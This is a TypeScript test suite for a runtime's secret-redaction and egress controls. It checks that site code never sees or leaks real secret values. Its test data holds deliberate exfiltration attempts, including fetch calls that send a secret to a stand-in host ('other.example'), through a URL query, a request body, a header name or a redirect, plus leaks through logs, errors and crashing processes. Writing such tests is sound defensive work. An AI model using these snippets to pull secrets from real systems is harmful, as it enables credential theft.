import { readFileSync } from 'node:fs'
import type { IncomingMessage, ServerResponse } from 'node:http'
import t from 'tap'
import type { SiteSecret } from '../../../core/supervisor-messages.ts'
import { makeServerCertificate } from '../../services/test-certificates.ts'
import { startSecureWeb, startWeb } from '../egress/fixtures/web.ts'
import { type Ground, layGround, type Seen } from './host.ts'

/** For one host only: the code gets a placeholder. For none: the code works with it by itself. */
const edge = 'edge-4f9c1e77b2aa'
const own = 'own-90ab33d1c0fe'
/** The spellings that programs write without meaning to hide anything. */
const spellings = [edge, own].flatMap((value) => [
  value,
  Buffer.from(value).toString('base64'),
  Buffer.from(value).toString('hex'),
  Buffer.from(`x:${value}`).toString('base64').slice(4, -4),
])

interface Attempt {
  readonly name: string
  readonly code: string
  /** A line that is then in the log. */
  readonly log?: RegExp
  readonly expected?: RegExp | ((seen: Seen, ground: Ground) => boolean)
}

const attempts: readonly Attempt[] = [
  {
    name: 'the code has a placeholder',
    code: 'return new Response(env.EDGE)',
    expected: /^grove-secret-[0-9a-f]{32}$/,
  },
  {
    name: 'its own host gets it, and what comes back in headers is without it',
    code: `const answer = await fetch(API, { headers: { 'x-key': 'Bearer ' + env.EDGE } }); return Response.json([...answer.headers, answer.statusText])`,
    expected: /\[secret EDGE\]/,
  },
  {
    name: 'in a user and password',
    code: `const answer = await fetch(API, { headers: { authorization: 'Basic ' + btoa('user:' + env.EDGE) } }); return new Response(answer.headers.get('x-was'))`,
    expected: /^basic user:\[secret EDGE\]|Basic/,
  },
  {
    name: 'what its host says back in a body is the code’s to have',
    code: `return new Response((await (await fetch(API, { headers: { 'x-key': env.EDGE } })).text()).length > 0 ? 'has it' : 'no')`,
    expected: /^has it$/,
  },
  {
    name: 'logged after it was said back',
    code: `const text = await (await fetch(API, { headers: { 'x-key': env.EDGE } })).text(); console.log(text, [text], { text }, encodeURIComponent(text), btoa(text), btoa('x' + text), text.split('').map((c) => c.charCodeAt(0).toString(16)).join('')); console.error(new Error(text)); return new Response('said')`,
    log: /\[secret EDGE\]/,
  },
  {
    name: 'thrown after it was said back',
    code: `throw new Error(await (await fetch(API, { headers: { 'x-key': env.EDGE } })).text())`,
  },
  {
    name: 'to another host',
    code: `return await fetch(OTHER, { headers: { 'x-key': env.EDGE } })`,
    expected: (seen) => seen.failed === 'exception',
  },
  {
    name: 'to its host without TLS',
    code: `return await fetch(PLAIN, { headers: { 'x-key': env.EDGE } })`,
    expected: (seen) => seen.failed === 'exception',
  },
  {
    name: 'in a URL',
    code: `return await fetch(API + '?key=' + env.EDGE)`,
    expected: (seen) => seen.failed === 'exception',
  },
  {
    name: 'in a body',
    code: `return await fetch(API, { method: 'POST', body: env.EDGE, headers: { 'x-key': 'none' } })`,
    expected: /body=grove-secret-/,
  },
  {
    name: 'by a redirect to another host',
    code: `return await fetch(API + '?to=' + encodeURIComponent(OTHER), { headers: { 'x-key': env.EDGE } })`,
    expected: /key=undefined/,
  },
  {
    name: 'in the name of a header',
    code: `return await fetch(OTHER, { headers: { [env.EDGE]: 'x' } })`,
    expected: (seen) => !seen.failed,
  },
  {
    name: 'two in one header, of which one is made up',
    code: `return new Response((await fetch(API, { headers: { 'x-key': env.EDGE + ' grove-secret-' + '0'.repeat(32) } })).headers.get('x-was'))`,
    expected: /\[secret EDGE\] grove-secret-0{32}/,
  },
  {
    name: 'one of its own in a log',
    code: `console.log(env.OWN); console.warn({ key: env.OWN }, new Map([[env.OWN, 1]])); console.info('%s', env.OWN); console.debug(JSON.stringify(JSON.stringify(env))); console.table([{ a: env.OWN }]); return new Response('said')`,
    log: /\[secret OWN\]/,
  },
  { name: 'in an error', code: 'throw new Error(env.OWN)' },
  {
    name: 'in the name of an error, and its cause',
    code: `const error = new TypeError('x', { cause: new Error(env.OWN) }); error.name = env.OWN; error.stack = 'at ' + env.OWN; throw error`,
  },
  {
    name: 'in an error with nobody to catch it',
    code: `Promise.reject(new Error(env.OWN)); setTimeout(() => { throw env.OWN }, 0); reportError(new Error(env.OWN)); await new Promise((resolve) => setTimeout(resolve, 20)); return new Response('said')`,
  },
  {
    name: 'in the name of a function that is stopped',
    code: `const held = { [env.OWN]() { for (;;); } }; held[env.OWN]()`,
    expected: (seen) => seen.failed === 'cpu',
  },
  {
    name: 'in an answer that cannot be sent',
    code: `return { [env.OWN]: env.OWN, status: env.OWN }`,
    expected: (seen) => seen.status >= 500,
  },
  {
    name: 'in a header that cannot be sent',
    code: `return new Response('x', { headers: { ['x-' + env.OWN + ' ']: env.OWN } })`,
    expected: (seen) => seen.status >= 500,
  },
  {
    name: 'in a URL that cannot be fetched',
    code: `return await fetch('https://' + env.OWN + '.nowhere/' + env.OWN)`,
    expected: (seen) => seen.failed === 'exception',
  },
  {
    name: 'in a key that is too long',
    code: `await env.DATA.put(env.OWN.repeat(100), 'x'); return new Response('x')`,
    expected: (seen) => seen.failed === 'exception',
  },
  {
    name: 'in a body that breaks off',
    code: `return new Response(new ReadableStream({ start(controller) { controller.enqueue(new Uint8Array(1)) }, async pull(controller) { await new Promise((resolve) => setTimeout(resolve, 50)); controller.error(new Error(env.OWN)) } }))`,
    expected: (seen) => seen.isCut === true,
  },
  {
    // Nothing has gone out yet, so the visitor can still be told.
    name: 'in a body that breaks off as it begins',
    code: `return new Response(new ReadableStream({ start(controller) { controller.enqueue(new Uint8Array(1)) }, pull(controller) { controller.error(new Error(env.OWN)) } }))`,
    expected: (seen) => seen.failed === 'exception',
  },
  {
    name: 'in memory that fills a process',
    code: `const all = []; for (;;) { const a = new ArrayBuffer(2 ** 24, { maxByteLength: 2 ** 24 }); new Uint8Array(a).fill(7); all.push(a, env.OWN.repeat(1000)); if (all.length % 4 === 0) await null }`,
  },
  {
    name: 'in a process that is killed',
    code: `const held = { [env.OWN]() { Array.prototype.includes.call({ length: 2 ** 53 - 1 }, env.OWN) } }; held[env.OWN]()`,
    expected: (seen) => seen.failed === 'cpu',
  },
]

t.test('secrets', async (t) => {
  const pair = await makeServerCertificate(['api.example', 'other.example'])
  const got: string[] = []
  const answer = async (request: IncomingMessage, response: ServerResponse) => {
    let body = ''
    for await (const piece of request) body += piece
    const { authorization = '', 'x-key': key, host } = request.headers
    const user = authorization.startsWith('Basic ') ? Buffer.from(authorization.slice(6), 'base64').toString() : ''
    got.push(`${host?.split(':')[0]} ${key} ${user}`)
    const to = new URL(request.url ?? '', 'https://x').searchParams.get('to')
    const was = `${key ?? ''}${user && `basic ${user}`}`
    response.writeHead(to ? 307 : 200, `It was ${was}`, {
      'x-was': was,
      'set-cookie': `k=${was}`,
      ...(to && { location: to }),
    })
    response.end(to ? '' : `key=${key} body=${body}`)
  }
  const secure = await startSecureWeb(t, pair, answer)
  const plain = await startWeb(t, answer)
  const hosts = [`api.example:${secure.port}`, `api.example:${plain.port}`]
  const secrets: SiteSecret[] = [
    { name: 'EDGE', value: edge, hosts },
    { name: 'OWN', value: own, hosts: [] },
  ]
  const ground = await layGround(t, { ports: [secure.port, plain.port], ca: pair.cert })
  const urls = `const API = 'https://api.example:${secure.port}/', OTHER = 'https://other.example:${secure.port}/', PLAIN = 'http://api.example:${plain.port}/'`
  const handlers = attempts.map(({ code }, index) => `'/${index}': async (request, env, context) => { ${code} },`)
  const code = `${urls}\nconst attempts = {\n${handlers.join('\n')}\n}\nexport default { fetch: (request, env, context) => attempts[new URL(request.url).pathname](request, env, context) }`
  const allow = [...hosts, `other.example:${secure.port}`, '*.nowhere']
  await ground.publish('keeper', code, { secrets, allow, data: true })
  await ground.publish('loader', `throw new Error('at the top')`, { secrets })

  const free = (text: string, what: string) => {
    for (const spelling of spellings) t.notOk(text.includes(spelling), `${what} is without ${spelling}`)
  }

  for (const [index, { name, expected, log }] of attempts.entries())
    await t.test(name, async (t) => {
      await ground.release('keeper')
      const seen = await ground.ask('keeper', { path: `/${index}` })
      const fits =
        expected === undefined || (typeof expected === 'function' ? expected(seen, ground) : expected.test(seen.body))
      t.ok(fits, JSON.stringify(seen).slice(0, 500))
      if (log) t.ok(await ground.line('keeper', log), `${log}`)
      for (const spelling of spellings) t.notOk(JSON.stringify(seen).includes(spelling), spelling)
    })

  await t.test('only its host has got it, and over TLS', (t) => {
    t.ok(got.some((each) => each.startsWith('api.example') && each.includes(edge)))
    t.notOk(got.some((each) => each.startsWith('other.example') && each.includes(edge)))
    t.end()
  })

  await t.test('no log has it', async (t) => {
    await ground.ask('loader')
    t.ok(await ground.line('loader', /at the top/))
    await new Promise((resolve) => setTimeout(resolve, 100))
    free(JSON.stringify(ground.lines), 'the log of sites')
    free(ground.ownLog.join(''), 'the log of the host')
    t.end()
  })

  await t.test('no process shows it, and none leaves its memory behind', (t) => {
    const processes = ground.status().processes.filter(({ state }) => state !== 'starting')
    for (const { pid } of processes) {
      for (const file of ['cmdline', 'environ']) free(readFileSync(`/proc/${pid}/${file}`, 'latin1'), file)
      if (ground.plan.bounds) t.match(readFileSync(`/proc/${pid}/limits`, 'utf8'), /Max core file size +0 +0 /)
    }
    t.ok(processes.length > 1)
    t.end()
  })

  await t.test('at the end', (t) => ground.endsWell(t))
})
